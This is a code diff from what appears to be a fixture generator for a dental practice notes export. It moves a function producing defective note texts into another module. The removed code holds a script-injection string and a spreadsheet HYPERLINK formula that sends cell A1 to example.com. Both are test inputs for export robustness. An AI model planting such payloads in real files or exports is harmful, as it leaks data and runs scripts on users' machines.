@@ -2,6 +2,7 @@ import { databaseDate, plainMoney, styledMoney } from '../../practice/cells.js';
 import { NOBODY } from '../../practice/households.js';
 import type { LabCase } from '../../practice/lab-cases.js';
 import type { Balance, Household, Image, Note, Person } from '../../practice/model.js';
+import { noteText } from '../../practice/note-cells.js';
 import type { Row } from './export-layout.js';
 import { listed, orNull } from './export-layout.js';
 
@@ -9,10 +10,6 @@ import { listed, orNull } from './export-layout.js';
 function patientOf(person: Person, missing: boolean): { readonly id: string; readonly links: readonly (readonly ['patient', 'patient', string])[] } {
   return missing ? { id: String(NOBODY + person.id), links: [] } : { id: String(person.id), links: [['patient', 'patient', String(person.id)]] };
 }
-
-const SHOWN_IN_NOTES: readonly string[] = [
-  'note-multi-line', 'note-html', 'note-smart-quotes', 'note-formula', 'note-tabs', 'note-empty', 'note-author-gone', 'note-of-missing-patient', 'note-with-ssn',
-];
 
 /** A row of `notes.csv`. */
 export function noteRow(note: Note, person: Person): Row<'notes.csv'> {
@@ -24,29 +21,7 @@ export function noteRow(note: Note, person: Person): Row<'notes.csv'> {
   };
   // A note without text is a row, but says nothing that could be kept.
   const nothing = defect === 'note-empty' ? { records: [] } : {};
-  const defects = defect !== null && SHOWN_IN_NOTES.includes(defect) ? [defect] : [];
-  return { cells, about: { key: cells['Note ID'], links: patient.links, defects, ...nothing } };
-}
-
-function noteText({ text, defect, id }: Note): string {
-  switch (defect) {
-    case 'note-multi-line':
-      return `${text}\r\nSaid "ouch" twice, then "fine".\r\n\r\nNext visit: see plan, phase 2.`;
-    case 'note-html':
-      return `<p>${text}<br>Second <b>line</b>.</p><script>alert(${id})</script>`;
-    case 'note-smart-quotes':
-      return `“${text}” – the patient’s own words…`;
-    case 'note-formula':
-      return `=HYPERLINK("http://example.com/?x="&A1,"${text}")`;
-    case 'note-tabs':
-      return `\tTooth\tSurface\n\t14\tMO\n${text}`;
-    case 'note-empty':
-      return '';
-    case 'note-with-ssn':
-      return `${text} Gave SSN 000-00-${1000 + (id % 9000)} for the claim.`;
-    default:
-      return text;
-  }
+  return { cells, about: { key: cells['Note ID'], links: patient.links, defects: listed(defect), ...nothing } };
 }
 
 const SHOWN_IN_BALANCES: readonly string[] = ['balance-negative', 'balance-in-parentheses', 'balance-with-symbols', 'balance-guarantor-missing'];
